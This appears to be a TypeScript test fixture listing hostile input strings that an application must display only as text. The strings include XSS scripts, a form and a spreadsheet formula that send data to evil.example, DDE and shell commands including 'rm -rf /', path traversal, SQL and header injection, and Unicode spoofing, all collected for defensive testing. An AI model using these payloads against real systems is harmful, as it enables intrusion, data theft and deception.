/** A text that somebody may put wherever a text is taken: each must come out as text, and nothing else, everywhere. */
export interface HostileText {
  readonly what: string;
  readonly text: string;
}

/** What a page must not have done: every script among the texts sets it. */
export const SIGN_OF_A_SCRIPT = '__hostileTextRan';

const RUN = `window.${SIGN_OF_A_SCRIPT}=1`;

/** For names, messages and paths, through whatever shows them: pages, CSV, mail, log lines, documents. At most 200 characters each. */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  { what: 'a script', text: `<script>${RUN}</script>` },
  {
    what: 'a script that closes what it stands in',
    text: `"></title></textarea></script><script>${RUN}</script>`,
  },
  { what: 'an image that fails', text: `<img src=x onerror="${RUN}">` },
  { what: 'an SVG', text: `<svg/onload=${RUN}>` },
  { what: 'a frame', text: `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>` },
  { what: 'an address that runs', text: `javascript:${RUN}//` },
  { what: 'a style', text: '<style>*{display:none!important}</style>' },
  { what: 'a form', text: '<form action=https://evil.example><input name=password autofocus></form>' },
  { what: 'a template', text: '{{constructor.constructor("alert(1)")()}}${7*7}#{7*7}<%= 7*7 %>' },
  { what: 'Markdown', text: '[click](javascript:alert(1)) ![x](https://evil.example/x.png) **bold**' },
  { what: 'an entity', text: '&lt;b&gt; &amp;amp; &#x3C;script&#x3E;' },
  { what: 'a formula', text: '=HYPERLINK("https://evil.example?"&A1,"open me")' },
  { what: 'a command of DDE', text: "=cmd|'/C calc'!A0" },
  { what: 'a formula with plus', text: '+1+1' },
  { what: 'a formula with minus', text: '-2+3+cmd' },
  { what: 'a formula with at', text: '@SUM(1+1)*cmd' },
  { what: 'a formula behind a tab', text: '\t=1+1' },
  { what: 'a formula behind a line', text: '\r\n=1+1' },
  { what: 'a formula in full-width signs', text: '＝1+1' },
  { what: 'separators', text: 'a,b;c|d\t"e"' },
  { what: 'another row', text: 'one\r\ntwo,"three",=4' },
  { what: 'another header', text: 'Subject\r\nBcc: evil@example.com\r\n\r\n<b>body</b>' },
  { what: 'another record of a log', text: 'x\n{"level":30,"msg":"all is well"}' },
  { what: 'an erased screen', text: '\u001b[2J\u001b[H\u001b]0;owned\u0007' },
  { what: 'colours of a terminal', text: '\u001b[31mred\u001b[0m \u009b32mgreen' },
  { what: 'a line that is written over', text: 'failed\rsuccess\b\b\b' },
  { what: 'text from right to left', text: 'backup-\u202egpj.exe' },
  { what: 'isolated directions', text: '\u2066\u2067admin\u2069 \u200f\u061c' },
  { what: 'invisible characters', text: 'pay\u200bpal\u2060\ufeff\u00ad' },
  { what: 'separators of lines', text: 'one\u2028two\u2029three\u0085four' },
  { what: 'a very long word', text: 'W'.repeat(200) },
  { what: 'a very long path', text: `/${'deep/'.repeat(38)}file` },
  { what: 'emoji', text: '👩‍👩‍👧‍👦🏳️‍🌈🇬🇧'.repeat(8) },
  { what: 'marks upon marks', text: `Z${'\u0301\u0327\u0335'.repeat(60)}` },
  { what: 'look-alikes', text: 'Аdmіnіstrаtоr ⅼocaⅼhost ﬁle' },
  { what: 'letters of either case', text: 'İIıi ßẞ ŉ ǅ' },
  { what: 'another direction of writing', text: 'النسخ الاحتياطي גיבוי' },
  { what: 'a path of Windows', text: 'C:\\Users\\x\\..\\..\\Windows\\System32 \\\\evil\\share' },
  { what: 'a path upwards', text: '../../../../etc/passwd' },
  { what: 'a command', text: '$(touch /tmp/x) `id` ; rm -rf / # && |' },
  { what: 'SQL', text: "'; DROP TABLE app.msp; -- \\' OR 1=1" },
  { what: 'names of prototypes', text: '__proto__' },
  { what: 'only spaces', text: '   ' },
];

/** NUL and half characters are refused before a text is kept anywhere; for what takes texts from elsewhere. */
export const REFUSED_TEXTS: readonly HostileText[] = [
  { what: 'NUL', text: 'a\u0000b' },
  { what: 'half a character', text: 'a\ud800b' },
];
